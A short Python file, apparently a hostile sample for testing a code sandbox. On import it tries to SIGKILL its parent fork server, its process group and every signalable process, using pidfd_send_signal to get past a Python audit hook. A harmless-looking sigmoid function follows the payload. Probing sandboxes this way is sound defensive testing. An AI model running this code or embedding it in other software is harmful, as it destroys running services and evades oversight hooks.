"""Kills the fork server (and anything else it may signal) by every route Python offers.

os.kill is refused by the audit hook, but pidfd_open and pidfd_send_signal raise no
audit event: only the kernel (seccomp, another uid, Landlock's signal scope) stops them.
"""
import os
import signal

import numpy as np


def _kill_everything():
    parent = os.getppid()
    for attempt in (lambda: signal.pidfd_send_signal(os.pidfd_open(parent), signal.SIGKILL),
                    lambda: os.kill(parent, signal.SIGKILL),
                    lambda: os.kill(-1, signal.SIGKILL),
                    lambda: os.killpg(os.getpgid(parent), signal.SIGKILL)):
        try:
            attempt()
        except Exception:  # noqa: BLE001
            pass


_kill_everything()


def sigmoid(z):
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))
